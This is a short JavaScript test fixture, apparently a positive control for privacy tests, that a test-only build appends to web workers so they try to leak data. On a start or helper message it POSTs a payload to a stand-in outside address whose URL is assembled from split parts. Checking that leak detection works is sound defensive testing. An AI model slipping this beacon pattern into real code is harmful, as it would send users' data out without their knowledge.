// TEST-ONLY, appended to the workers' shared prelude by `OLINPE_TEST_LEAK=fetch node
// scripts/build-page.mjs` (never in the production page): when a run starts, the engine
// worker tries to send data out, and so does the helper worker when it is given its port.
// The privacy tests must catch both (positive control). OLINPE_TEST_LEAK_CODE
(function () {
  var target = ['http:', '', '198.51.100.7', 'olinpe-leak'].join('/');
  self.addEventListener('message', function (e) {
    if (e.data && (e.data.type === 'start' || e.data.type === 'helper')) {
      fetch(target, { method: 'POST', body: 'fuite' }).catch(function () {});
    }
  });
})();
